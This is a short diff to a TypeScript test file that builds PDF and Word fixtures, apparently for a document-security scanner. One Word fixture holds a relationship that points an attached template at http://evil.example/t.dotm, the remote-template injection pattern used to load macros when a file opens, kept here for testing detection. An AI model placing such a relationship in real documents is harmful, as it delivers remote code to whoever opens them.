@@ -93,7 +93,7 @@ const onePage = ['<< /Type /Pages /Count 1 /Kids [3 0 R] >>', '<< /Type /Page /P
 const outsideTemplate = {
   name: 'word/_rels/settings.xml.rels',
   content:
-    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
 };
 
 function pdfOf(objects: readonly string[], catalog = ''): Uint8Array {
